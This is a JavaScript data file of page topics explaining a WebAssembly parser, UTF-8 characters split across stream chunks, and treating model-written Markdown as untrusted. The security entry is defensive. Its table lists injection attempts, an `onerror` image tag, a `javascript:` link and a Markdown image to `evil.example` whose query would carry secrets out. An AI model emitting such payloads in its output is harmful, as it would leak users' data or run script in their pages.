// The topics about the platform: WebAssembly, text encodings, the safety of what a model writes.

/** @type {import('./topics.js').Topic[]} */
export const webTopics = [
  {
    about: /web ?assembly|\bwasm\b|emscripten|c\+\+ (parser|core)|网页汇编/iu,
    title: 'A parser in WebAssembly',
    gists: [
      'The words you are reading crossed a parser written in **C++ and compiled to WebAssembly**. Bytes go in; a flat table of events comes out.',
      'WebAssembly earns its place here by doing one dull thing very well: looking at every byte once, and never twice.',
    ],
    points: [
      "Bytes are copied once into the module's memory; no string is made until an event is complete.",
      'The result is a table of offsets, so JavaScript reads a batch of events with one decoding call.',
      'The module compiles while the request is already on its way: it never delays the first byte.',
      'Where a policy forbids WebAssembly, the same C++ can be compiled to JavaScript instead.',
    ],
    table: {
      head: ['Stage', 'Lives in', 'Cost'],
      rows: [
        ['network → bytes', 'the browser', 'a copy'],
        ['bytes → lines', 'C++', 'one pass'],
        ['lines → events', 'C++', 'offsets only'],
        ['events → text', 'TypeScript', 'one decode per batch'],
      ],
    },
    example: {
      language: 'cpp',
      code: "// A line ends at LF, CR or CRLF, and a chunk may end between the two.\nstd::size_t find_line_end(std::string_view bytes) noexcept {\n  for (std::size_t i = 0; i < bytes.size(); ++i) {\n    if (bytes[i] == '\\n' || bytes[i] == '\\r') return i;\n  }\n  return bytes.size();\n}",
      says: 'The heart of the first stage, before anyone makes it fast:',
    },
    zh: {
      title: '用 WebAssembly 解析',
      gist: '你正在读的这些字，先经过了一个用 **C++ 写成、编译成 WebAssembly** 的解析器。',
      points: [
        '字节只复制一次，每个字节只看一次。',
        '结果是一张偏移量的表，而不是一堆对象。',
        '编译和网络请求同时进行，不耽误第一个字节。',
      ],
    },
  },
  {
    about: /\butf-?8\b|unicode|\bemoji|encoding|code ?points?|\bcharacters?\b|字符|编码/iu,
    title: 'Characters that arrive in halves',
    gists: [
      'A network cuts a stream wherever it likes, even **in the middle of a character**. A reader has to keep the half it has and wait for the other.',
      'One character is not one byte, and one emoji is not even one character. Streams make this visible, because chunks end anywhere.',
    ],
    points: [
      'UTF-8 uses one to four bytes: `e` takes one, `é` two, `中` three, `🙂` four.',
      'An emoji such as 👩‍🚀 is three code points joined into one picture.',
      'Bytes that cannot be UTF-8 become U+FFFD, one replacement character, rather than an error.',
    ],
    table: {
      head: ['Text', 'Code points', 'Bytes'],
      rows: [
        ['e', '1', '1'],
        ['é', '1', '2'],
        ['中', '1', '3'],
        ['🙂', '1', '4'],
        ['👩‍🚀', '3', '11'],
      ],
    },
    example: {
      language: 'javascript',
      code: "const bytes = new TextEncoder().encode('茶 🍵');\nconst decoder = new TextDecoder();\nlet text = '';\nfor (const byte of bytes) {\n  text += decoder.decode(Uint8Array.of(byte), { stream: true });\n}\nconsole.log(text); // 茶 🍵, though it came one byte at a time",
      says: 'With `stream: true` the decoder remembers the half:',
    },
    zh: {
      title: '被切成两半的字符',
      gist: '网络会在任何地方切开数据，甚至在**一个字的中间**。读者必须留着前半个，等后半个到来。',
      points: [
        'UTF-8 用一到四个字节表示一个码点，`中` 是三个字节。',
        '像 👩‍🚀 这样的表情由三个码点组成。',
        '无效的字节会变成替换字符 U+FFFD。',
      ],
    },
  },
  {
    about: /\bxss\b|sanitiz|sanitis|\bsecur|injection|\bcsp\b|hostile|untrusted|安全/iu,
    title: "Model text is a stranger's text",
    gists: [
      'What a model writes was shaped by whatever it read. A page should treat it like a comment from a stranger: **show it, never run it**.',
      "Rendering Markdown is turning a stranger's text into your page's HTML. That deserves more than one wall.",
    ],
    points: [
      'Raw HTML is shown as text, not as elements.',
      'Links may lead to `https:`, `http:` and `mailto:` only, and open without access to this page.',
      'Images are not loaded on their own: an address can carry your secrets away in its query.',
      "A content security policy forbids scripts that are not the page's own, should all else fail.",
    ],
    table: {
      head: ['Attempt', 'What happens here'],
      rows: [
        ['`<img onerror=…>`', 'shown as text'],
        ['`[click](javascript:…)`', 'no link, just the word'],
        ['`![](https://evil.example/?q=…)`', 'a link you may follow, no request'],
      ],
    },
    example: {
      language: 'http',
      code: "content-security-policy: default-src 'none'; script-src 'self' 'wasm-unsafe-eval'",
      says: 'The last wall is one header:',
    },
    zh: {
      title: '模型写的文字不可轻信',
      gist: '模型的输出应该像陌生人的留言一样对待：**可以显示，绝不执行**。',
      points: [
        '原始 HTML 只当作文字显示。',
        '链接只允许 `https:`、`http:` 和 `mailto:`。',
        '图片不会自动加载，以免泄露信息。',
      ],
    },
  },
];
